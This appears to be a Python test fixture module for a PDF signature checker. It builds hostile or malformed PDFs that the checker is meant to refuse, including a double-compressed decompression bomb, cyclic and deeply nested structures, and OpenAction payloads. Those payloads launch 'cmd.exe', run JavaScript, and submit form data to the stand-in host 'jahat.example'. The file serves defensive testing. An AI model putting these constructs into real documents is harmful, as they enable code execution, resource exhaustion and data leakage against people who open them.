"""Files that nobody means well with, each of its own kind."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.crypt import StandardSecurityHandler
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.writer import PdfFileWriter, copy_into_new_writer

from pulau.exchange.signatures.checking import LARGEST, MOST_SIGNATURES
from pulau.exchange.signatures.updating import Update, reader_of
from tests.exchange.signatures.studio import signed, unsigned


def written(writer: PdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def locked() -> bytes:
    """Encrypted: with a password that is empty, as much as one that is not."""
    writer = copy_into_new_writer(reader_of(unsigned()))
    handler = StandardSecurityHandler.build_from_pw("rahasia", "")
    writer._assign_security_handler(handler)
    return written(writer)


def by_hand(*objects: bytes, root: int = 1, size: int | None = None) -> bytes:
    """A PDF of these objects, with a cross-reference table that is right."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1 if size is None else size
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, root, start)
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[]/Count 0>>"


def with_catalogue(entries: bytes, *more: bytes) -> bytes:
    return by_hand(b"<</Type/Catalog/Pages 2 0 R%s>>" % entries, PAGES, *more)


@cache
def bomb() -> bytes:
    """An evidence store whose certificate unpacks to a whole disk, packed twice."""
    once = zlib.compress(zlib.compress(b"\0" * 600 * 2**20, 9), 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(once), once)
    return with_catalogue(b"/DSS<</Certs[3 0 R]>>", stream)


def crowded() -> bytes:
    """More signatures than anybody reads: fields with values, no more."""
    many = MOST_SIGNATURES + 1
    fields = b" ".join(b"%d 0 R" % (4 + number) for number in range(many))
    field = b"<</FT/Sig/T(t%d)/V 3 0 R>>"
    value = b"<</Type/Sig/SubFilter/ETSI.CAdES.detached/ByteRange[0 1 2 3]/Contents<00>>>"
    form = b"/AcroForm<</Fields[%s]>>" % fields
    return with_catalogue(form, value, *(field % number for number in range(many)))


def looped() -> bytes:
    """Fields that are their own children."""
    return with_catalogue(b"/AcroForm<</Fields[3 0 R]>>", b"<</FT/Sig/T(a)/Kids[3 0 R]>>")


def deep(opening: bytes, closing: bytes) -> bytes:
    return with_catalogue(b"/X " + opening * 20_000 + closing * 20_000)


def updated_without_end(count: int) -> bytes:
    """A paper with very many small updates; each alone is right."""
    pdf = bytearray(with_catalogue(b""))
    before = pdf.rindex(b"xref\n0 ")
    for number in range(count):
        place = len(pdf)
        pdf += b"9 0 obj\n(%d)\nendobj\n" % number
        start = len(pdf)
        pdf += b"xref\n9 1\n%010d 00000 n \ntrailer\n<</Size 10/Root 1 0 R/Prev %d>>\n" % (place, before)
        pdf += b"startxref\n%d\n%%%%EOF\n" % start
        before = start
    return bytes(pdf)


# What is refused, and with which reason; a table may lie about its size, nobody asks it.
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "another kind": (lambda: b"PK\3\4" * 100, "not-pdf"),
    "a PDF far behind": (lambda: b"\0" * 5_000 + signed(), "not-pdf"),
    "a head alone": (lambda: b"%PDF-1.7\n", "damaged"),
    "cut off": (lambda: signed()[:-300], "damaged"),
    "one byte too many": (lambda: signed() + b"\0" * (LARGEST - len(signed()) + 1), "too-large"),
    "locked": (locked, "encrypted"),
    "a bomb": (bomb, "too-large"),
    "too many signatures": (crowded, "too-many-signatures"),
    "fields in a circle": (looped, "damaged"),
    "arrays without end": (lambda: deep(b"[", b"]"), "damaged"),
    "dictionaries without end": (lambda: deep(b"<</A", b" 1>>"), "damaged"),
    "a signature that is none": (
        lambda: with_catalogue(b"/AcroForm<</Fields[3 0 R]>>", b"<</FT/Sig/T(a)/V(b)>>"),
        "damaged",
    ),
    "a root that is a number": (lambda: by_hand(b"5"), "damaged"),
    "a table that lies about its size": (lambda: by_hand(b"<</Type/Catalog>>", PAGES, size=10**9), "unsigned"),
    "a table in a circle": (
        lambda: by_hand(b"<</Type/Catalog/Pages 2 0 R>>", PAGES).replace(b"/Root", b"/Prev 79/Root"),
        "damaged",
    ),
    "a kind of signature that nobody knows": (
        lambda: signed().replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detacheD"),
        "damaged",
    ),
}


def carrying(key: str, value: generic.PdfObject) -> bytes:
    update = Update(unsigned())
    update.root[key] = update.add_object(value)
    update.update_root()  # type: ignore[no-untyped-call] # pyHanko is typed in part
    return update.updated()


def action(kind: str, **entries: str) -> generic.DictionaryObject:
    """An action of a kind, its name behind a reference where `kind` begins with `→`."""
    made = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Action"), pdf_name("/S"): pdf_name(kind)})
    for key, value in entries.items():
        made[f"/{key}"] = generic.TextStringObject(value)
    return made


def behind_a_reference() -> bytes:
    update = Update(unsigned())
    kind = update.add_object(pdf_name("/Launch"))
    made = generic.DictionaryObject({pdf_name("/S"): kind})
    update.root["/OpenAction"] = update.add_object(made)
    update.update_root()  # type: ignore[no-untyped-call] # the same
    return update.updated()


ACTIVE: dict[str, Callable[[], bytes]] = {
    "a script": lambda: carrying("/OpenAction", action("/JavaScript", JS="app.alert(1)")),
    "a program": lambda: carrying("/OpenAction", action("/Launch", F="cmd.exe")),
    "a form that is sent": lambda: carrying("/OpenAction", action("/SubmitForm", F="https://jahat.example")),
    "an attachment": lambda: carrying(
        "/Names", generic.DictionaryObject({pdf_name("/EmbeddedFiles"): generic.DictionaryObject()})
    ),
    "a kind behind a reference": behind_a_reference,
}
